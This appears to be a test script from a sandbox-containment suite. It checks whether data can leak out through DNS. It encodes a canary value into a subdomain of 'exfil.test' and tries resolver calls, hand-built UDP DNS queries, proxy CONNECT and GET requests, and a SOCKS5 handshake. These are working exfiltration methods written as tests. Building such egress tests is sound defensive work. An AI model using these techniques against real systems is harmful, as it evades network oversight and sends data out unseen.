#!/usr/bin/python3
# NET-03: DNS exfiltration in both modes
# Guarantee: no egress, and no DNS tricks
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "netlib.py")).read())  # corral: inline netlib.py

import struct
d = f"CANARY-{N}".encode().hex()
name = f"{d}.exfil.test"
try:
    socket.getaddrinfo(name, 80)
    esc(f"getaddrinfo {name} resolved")
except socket.gaierror as e:
    say(f"getaddrinfo: {e}")
rc, out = run(f"getent hosts {name}", timeout=10)
say(f"getent: rc {rc} {out.strip()[:100]}")
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in name.split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
for srv in ("127.0.0.53", "127.0.0.1", "198.18.0.10"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(q, (srv, 53))
        s.recvfrom(512)
        esc(f"dns answer from {srv}")
    except socket.timeout:
        say(f"dns {srv}: no answer")
    except OSError as e:
        say(f"dns {srv}: {ename(e.errno)}")
if proxy():
    proxy_ok("n03")
    refused("CONNECT exfil", *preq(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n"))
    refused("GET exfil", *get(name, "/"))
    # socks5h: greeting, then CONNECT by name.
    try:
        s = socket.create_connection(proxy(), 5)
        s.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name.encode() + b"\x00\x50")
        s.settimeout(3)
        r = s.recv(64)
        if r[:2] == b"\x05\x00":
            esc(f"SOCKS5 accepted: {r!r}")
        else:
            say(f"socks5: {r[:40]!r}")
    except OSError as e:
        say(f"socks5: {e}")
